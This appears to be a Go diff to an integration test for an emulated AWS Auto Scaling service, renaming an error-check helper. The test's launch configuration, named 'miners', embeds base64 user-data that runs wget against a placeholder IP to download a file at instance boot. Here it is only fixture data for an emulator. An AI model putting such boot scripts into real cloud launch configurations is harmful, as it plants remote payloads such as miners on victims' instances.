@@ -13,7 +13,7 @@ import (
 
 func TestIntegrationAutoScaling(t *testing.T) {
 	e := startEmulator(t)
-	ctx, c, must := t.Context(), autoscaling.NewFromConfig(e.Fill), noError(t)
+	ctx, c, must := t.Context(), autoscaling.NewFromConfig(e.Fill), filled(t)
 	must(c.CreateLaunchConfiguration(ctx, &autoscaling.CreateLaunchConfigurationInput{
 		LaunchConfigurationName: aws.String("miners"), ImageId: aws.String("ami-12c6146b"), InstanceType: aws.String("t3.micro"),
 		IamInstanceProfile: aws.String("web"), UserData: aws.String(base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\nwget http://198.51.100.7/x\n"))),
